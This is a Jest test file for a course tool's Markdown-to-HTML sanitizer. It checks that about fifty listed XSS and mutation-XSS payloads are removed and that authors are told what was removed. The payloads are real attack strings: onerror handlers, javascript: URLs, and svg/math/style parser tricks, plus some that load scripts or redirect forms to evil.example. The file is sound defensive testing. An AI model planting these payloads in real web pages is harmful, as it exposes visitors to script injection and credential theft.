import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import type { Nodes } from 'hast';
import { raw } from 'hast-util-raw';
import { toHtml } from 'hast-util-to-html';
import { isAllowedAttribute, isAllowedElement } from '../../src/compiler/render/html-schema.js';
import {
  makeActivity,
  makeAsset,
  makeCourse,
  makePage,
  parseMarkdown,
  renderCourse,
  renderMarkdown,
} from '../support/render-pages.js';

const OURS = new Set(['class', 'className', 'rel', 'target', 'decoding', 'width', 'height', 'href', 'src', 'alt']);

/** Every element and attribute of a markup as an HTML parser reads it that neither an author may write nor we do. */
function foreignParts(html: string): string[] {
  const found: string[] = [];
  const walk = (node: Nodes): void => {
    if (node.type === 'element') {
      if (!isAllowedElement(node.tagName)) found.push(`<${node.tagName}>`);
      for (const [name, value] of Object.entries(node.properties)) {
        if (!isAllowedAttribute(node.tagName, name) && !OURS.has(name)) found.push(`${node.tagName} ${name}`);
        if (/^\s*(javascript|data|vbscript):/i.test(String(value))) found.push(`${node.tagName} ${name}=${value}`);
        if (name === 'className' && !/^cw-(hidden|caption)$/.test(String(value))) found.push(`class ${value}`);
      }
    }
    if ('children' in node) node.children.forEach(walk);
  };
  walk(raw({ type: 'root', children: [{ type: 'raw', value: html }] }));
  return found;
}

/** Markup that a browser's parser would change can turn into something else on its way: mutation XSS. */
function survivesParsing(html: string): boolean {
  return toHtml(raw({ type: 'root', children: [{ type: 'raw', value: html }] })) === html;
}

const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" alt="a">',
  '<img/src="x"/onerror=alert(1)>',
  '<img srcset="https://evil.example/x.png 1x" alt="">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href=" javascript&colon;alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" style="position:fixed" id="cw-exit" name="x" target="_top">x</a>',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi xlink:href="data:x,<script>alert(1)</script>"></mi></math>',
  '<form action="https://evil.example"><input name="password" autofocus onfocus=alert(1)><button>x</button></form>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import url(https://evil.example/x.css)</style>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea><script>alert(1)</script>',
  '<title><a id="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  '<table><tr><td><table><svg><style><img src=x onerror=alert(1)></style></svg></td></tr></table>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video src=x onerror=alert(1) autoplay></video><audio src=x></audio>',
  '<div class="cw-activity" id="p--q" data-activity="q" role="radiogroup" aria-label="x" hidden contenteditable>x</div>',
  '<cw-slot n="0">x</cw-slot><cw-slot n="1"></cw-slot>',
  '<input type="radio" name="p--q" value="0">',
  '<a href="https://ok.example"><a href="javascript:alert(1)">x</a></a>',
  '<p><p><li><td><tr><tbody>x',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<b title="a&quot; onmouseover=&quot;alert(1)">x</b>',
];

describe('an attack is taken out', () => {
  test.each(ATTACKS)('%s', (attack) => {
    for (const markdown of [attack, `Before ${attack} after.`, `- item\n\n  ${attack}\n\n> ${attack}\n\nText.`]) {
      const html = renderMarkdown(markdown, { assets: [makeAsset('x')] }).replace(/<noscript>.*?<\/noscript>/g, '');
      expect(foreignParts(html)).toEqual([]);
      expect(html).not.toMatch(/\son\w+\s*=\s*["']?alert/);
    }
  });

  test('and what is left means the same to every parser', () => {
    const left = ATTACKS.map((attack) => renderMarkdown(attack, { assets: [makeAsset('x')] }));
    expect(left.filter((html) => !survivesParsing(html))).toEqual([]);
  });

  test('whatever tags it is made of', () => {
    const names = [
      'b',
      'p',
      'svg',
      'math',
      'style',
      'table',
      'td',
      'form',
      'a',
      'script',
      'title',
      'mtext',
      'select',
      'details',
    ];
    const tag = fc.oneof(
      fc.constantFrom(...names).map((name) => `<${name} onclick=alert(1) id=x class=y>`),
      fc.constantFrom(...names).map((name) => `</${name}>`),
      fc.constantFrom('text', '\n\n', '<!--', '-->', '"', '*em*', '[l](https://x.uk)', '`code`'),
    );
    fc.assert(
      fc.property(fc.array(tag, { maxLength: 12 }), (parts) => {
        expect(foreignParts(renderMarkdown(parts.join('')))).toEqual([]);
      }),
      { numRuns: 300, seed: 7 },
    );
  });
});

describe('harmless HTML', () => {
  test('stays, with Markdown in and around it', () => {
    expect(renderMarkdown('<details open><summary>More</summary>\n\n**Bold** <kbd>x</kbd>\n\n</details>\n\nEnd.')).toBe(
      '<details open><summary>More</summary><p><strong>Bold</strong> <kbd>x</kbd></p></details>\n<p>End.</p>',
    );
  });

  test('that opens a paragraph around Markdown’s own makes no paragraph in a paragraph', () => {
    expect(renderMarkdown('<p>\n\nText\n\n</p>')).toBe('<div><p>Text</p></div>');
  });

  test('gets the package’s addresses', () => {
    const html = renderMarkdown('<p><img src="media/a.png" alt="A" width="9"><a href="q.md">q</a></p>', {
      assets: [makeAsset('media/a.png', { width: 2, height: 3 })],
    });
    expect(html).toBe(
      '<p><img src="media/a.0a1b2c3d.png" alt="A" width="2" height="3" decoding="async"><a href="#q">q</a></p>',
    );
  });

  test('has headings on a level that fits', () => {
    expect(renderMarkdown('## A\n\n<h1>B</h1>\n\n<h6>C</h6>')).toContain('<h2>B</h2>\n<h3>C</h3>');
  });

  test('may be a comment, of which nobody is told', () => {
    const { html, reported } = renderCourse(makeCourse([makePage('p', 'a\n\n<!-- note -->\n\nb <!-- c --> d')]));
    expect(html[0]).not.toContain('note');
    expect(reported).toEqual([]);
  });
});

describe('the tool’s own markup', () => {
  const activity = makeActivity('q', 'choice', {
    prompt: parseMarkdown('Which?').children,
    items: [],
    config: { many: false, prompt: 'Which?', options: [] },
  });

  test('stands whole among unbalanced tags', () => {
    const tree = parseMarkdown('<div><b>\n\nText\n\n</p></td></section></b>');
    tree.children.splice(1, 0, { type: 'activity', activity });
    const html = renderMarkdown(tree);
    const frame = html.slice(html.indexOf('<div class="cw-activity'));
    expect(frame).toMatch(
      /^<div class="cw-activity cw-activity-choice" id="p--q" data-activity="q"><div class="cw-prompt"/,
    );
    expect(html.match(/role="radiogroup"/g)?.length).toBe(1);
  });

  test('is not lost in what is taken out', () => {
    const tree = parseMarkdown('Before <script>\n\nText');
    const paragraph = tree.children[0];
    if (paragraph?.type !== 'paragraph') throw new Error('No paragraph.');
    paragraph.children.push({ type: 'text', value: 'kept' });
    expect(renderMarkdown(tree)).toContain('kept');
  });
});

describe('the author', () => {
  const reportedFor = (markdown: string): readonly string[] =>
    renderCourse(makeCourse([makePage('p', markdown)])).reported;

  test('is told what was taken out', () => {
    expect(reportedFor('<form>x</form>')).toEqual(['html-element-removed form form']);
    expect(reportedFor('<b onclick="x()" style="color:red">x</b>')).toEqual([
      'html-attribute-removed onclick b',
      'html-attribute-removed style b',
    ]);
    expect(reportedFor('<b class=x aria-label="y" data-a-b=1 CONTENTEDITABLE>x</b>')).toEqual([
      'html-attribute-removed class b',
      'html-attribute-removed aria-label b',
      'html-attribute-removed data-a-b b',
      'html-attribute-removed CONTENTEDITABLE b',
    ]);
    expect(reportedFor('A <div>b</div> c')).toEqual(['html-element-misplaced div div']);
    expect(reportedFor('<b>\n\nText\n\nText')).toEqual(['html-element-misplaced b b']);
    expect(reportedFor('<cw-slot n="0">')).toEqual(['html-element-removed cw-slot cw-slot']);
  });
});
